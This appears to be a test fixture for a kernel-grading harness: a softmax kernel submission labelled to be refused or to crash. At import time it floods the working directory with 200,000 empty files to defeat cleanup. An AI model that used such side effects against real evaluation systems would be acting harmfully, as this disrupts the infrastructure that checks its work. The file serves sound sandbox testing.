# reference: softmax
# verdict: refused|crash
"""Leaves 200,000 empty files, more than a cleaner has patience for."""
import os

import neuronxcc.nki as nki
import neuronxcc.nki.language as nl

for number in range(200_000):
    open(str(number), "w").close()

@nki.jit
def kernel(x):
    out = nl.ndarray(x.shape, dtype=x.dtype, buffer=nl.shared_hbm)
    for r in nl.affine_range(2):
        tile = nl.load(x[r * 128:(r + 1) * 128, :])
        shifted = nl.exp(tile - nl.max(tile, axis=1, keepdims=True))
        nl.store(out[r * 128:(r + 1) * 128, :], shifted / nl.sum(shifted, axis=1, keepdims=True))
    return out
